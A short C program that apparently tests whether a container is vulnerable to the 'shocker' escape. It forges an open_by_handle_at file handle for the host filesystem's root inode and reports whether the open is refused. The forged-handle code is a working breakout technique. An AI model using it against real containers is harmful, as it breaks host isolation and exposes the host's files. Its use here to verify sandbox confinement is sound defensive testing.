/* The "shocker" escape: open_by_handle_at with a handle of a file on a
 * bind-mounted host filesystem (from name_to_handle_at, which the default
 * profile allows) and with a forged handle of that filesystem's root
 * directory (ext4's inode 2). Prints what each attempt got; exits 1 if
 * either opened anything, 0 when both were refused. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int attempt(const char *what, int mount_fd, struct file_handle *handle, int flags) {
    int fd = open_by_handle_at(mount_fd, handle, flags);
    if (fd >= 0) {
        printf("%s: OPENED\n", what);
        return 1;
    }
    printf("%s: %s\n", what, strerror(errno));
    return 0;
}

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "/etc/hosts";
    int mount_fd = open(path, O_RDONLY);
    if (mount_fd < 0) {
        perror(path);
        return 2;
    }
    struct file_handle *handle = malloc(sizeof(struct file_handle) + MAX_HANDLE_SZ);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    int opened = 0;
    if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) == 0) {
        opened |= attempt("handle of the bind-mounted file", mount_fd, handle, O_RDONLY);
    } else {
        printf("name_to_handle_at: %s\n", strerror(errno));
    }
    /* FILEID_INO32_GEN: inode 2 (the root of ext2/3/4), generation 0. */
    handle->handle_bytes = 8;
    handle->handle_type = 1;
    unsigned int root[2] = {2, 0};
    memcpy(handle->f_handle, root, sizeof(root));
    opened |= attempt("forged handle of the host root", mount_fd, handle, O_RDONLY | O_DIRECTORY);
    return opened;
}
